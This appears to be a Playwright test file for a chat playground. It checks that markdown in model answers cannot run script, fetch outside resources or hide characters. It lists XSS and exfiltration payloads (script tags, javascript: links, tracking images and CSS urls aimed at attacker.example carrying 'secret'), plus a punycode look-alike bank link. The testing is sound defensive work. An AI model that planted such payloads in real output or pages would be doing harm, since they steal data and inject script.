import { expect, test } from "./fixtures";
import { answerOf, ask, openChat } from "./playground";

const MODEL = "anthropic/claude-haiku-4.5";

// The sandbox repeats what it is told to say, so a test can put words into a model's mouth.
// It ends at the next quotation mark, so the words have none.
const say = (words: string) => `Say exactly "${words}"`;

const TRAPS = [
  "![tracker](https://attacker.example/pixel.png?q=secret)",
  "![ref][1]\n\n[1]: https://attacker.example/ref.png",
  "<img src=https://attacker.example/raw.png onerror=window.stolen=1>",
  "<script>window.stolen = 1</script>",
  "<iframe src=https://attacker.example/></iframe><video poster=https://attacker.example/p.png></video>",
  "[click](javascript:window.stolen=1) [tab](java\tscript:window.stolen=1) [data](data:text/html,<script>1</script>)",
  "<a href=https://attacker.example ping=https://attacker.example/ping>x</a>",
  "<svg><image href=https://attacker.example/s.svg /></svg>",
  "<img srcset=https://attacker.example/set.png><input type=image src=https://attacker.example/i.png>",
  "<link rel=stylesheet href=https://attacker.example/l.css><link rel=prefetch href=https://attacker.example/p>",
  "<style>body{background:url(https://attacker.example/b.png)}</style><p style=background:url(//attacker.example/c)>x</p>",
  "<form action=https://attacker.example/f><button formaction=https://attacker.example/g>go</button></form>",
  "![drawn](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==)",
  "![near](//attacker.example/near.png) ![here](/api/status?x=secret) [out](//attacker.example) [in](/api/conversations)",
  "A footnote[^1].\n\n[^1]: ![note](https://attacker.example/note.png)",
  "$$\\includegraphics{https://attacker.example/k.png}\\href{javascript:window.stolen=1}{x}\\htmlClass{admin}{y}$$",
  "```mermaid\n%%{init: {securityLevel: loose}}%%\ngraph TD\nA[<img src=https://attacker.example/m.png>]-->B\n```",
  "```html\n<script>window.stolen=1</script><iframe src=https://attacker.example/html></iframe>\n```",
];

test("nothing that a model writes runs or fetches anything", async ({ page }) => {
  await openChat(page, MODEL);
  await ask(page, say(`${TRAPS.join("\n\n")}\n\nthe end of it`));
  const answer = answerOf(page, MODEL);
  await expect(answer).toHaveAttribute("aria-busy", "false");
  await expect(answer).toContainText("the end of it");
  // The fixture fails this test on any request to another origin and on any report of the policy.
  expect(await page.evaluate(() => "stolen" in window)).toBe(false);
  const links = await answer
    .getByRole("link")
    .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
  // One way leads into this site, and it is ours.
  expect(links.filter((href) => !/^(https?:|mailto:|\/generations\/)/.test(href))).toEqual([]);
  await expect(
    answer.locator(
      "script, iframe, video, style, link, form, object, embed, img, svg image, input:not([type=checkbox]), [onerror], [ping], [srcset], [id^=user-content]",
    ),
  ).toHaveCount(0);
  for (const source of ["graph TD", "<iframe src=https://attacker.example/html>", "\\includegraphics"])
    await expect(answer).toContainText(source);
  // After a reload it comes from the record, and in the list of conversations stands its title.
  await page.reload();
  await expect(answer).toContainText("the end of it");
  expect(await page.evaluate(() => "stolen" in window)).toBe(false);
});

test("a link opens only after a look at where it leads, and what hides is shown", async ({
  page,
  context,
}) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await openChat(page, MODEL);
  const hidden = "pay\u202Elive\u200B\u{E0041}";
  await ask(page, say(`[your bank](https://xn--80ak6aa92e.com/a%20b?q=%C3%A4) ${hidden} the end of it`));
  const answer = answerOf(page, MODEL);
  await expect(answer).toHaveAttribute("aria-busy", "false");
  const shown = "pay⟨U+202E⟩live⟨U+200B⟩⟨U+E0041⟩";
  await expect(answer).toContainText(shown);
  await expect(page.getByRole("heading", { name: "You", exact: true }).locator("..")).toContainText(shown);
  await answer.getByRole("button", { name: "Copy answer" }).click();
  await expect(answer.getByRole("button", { name: "Copied" })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain(shown);

  const link = answer.getByRole("link", { name: "your bank" });
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await link.click();
  const dialog = page.getByRole("dialog", { name: "Open this link?" });
  await expect(dialog).toContainText("xn--80ak6aa92e.com");
  await expect(dialog).toContainText("https://xn--80ak6aa92e.com/a b?q=ä");
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await expect(dialog).toBeHidden();
  expect(context.pages()).toHaveLength(1);
});

for (const [name, words] of [
  ["emphasis without end", "*a_".repeat(2_000)],
  ["quotes within quotes", ">".repeat(2_000)],
  ["links that never close", "[a](".repeat(2_000)],
  ["lists within lists", Array.from({ length: 400 }, (_, depth) => `${" ".repeat(depth)}- x`).join("\n")],
] as const) {
  test(`${name} stay readable and leave the page alive`, async ({ page }) => {
    await openChat(page, MODEL);
    await ask(page, say(`${words} the end of it`));
    const answer = answerOf(page, MODEL);
    await expect(answer).toHaveAttribute("aria-busy", "false", { timeout: 30_000 });
    await expect(answer).toContainText("the end of it");
    // Still alive: the composer takes the next message.
    await page.getByRole("textbox", { name: "Message" }).fill("Still there?");
    await expect(page.getByRole("button", { name: "Send" })).toBeEnabled();
  });
}
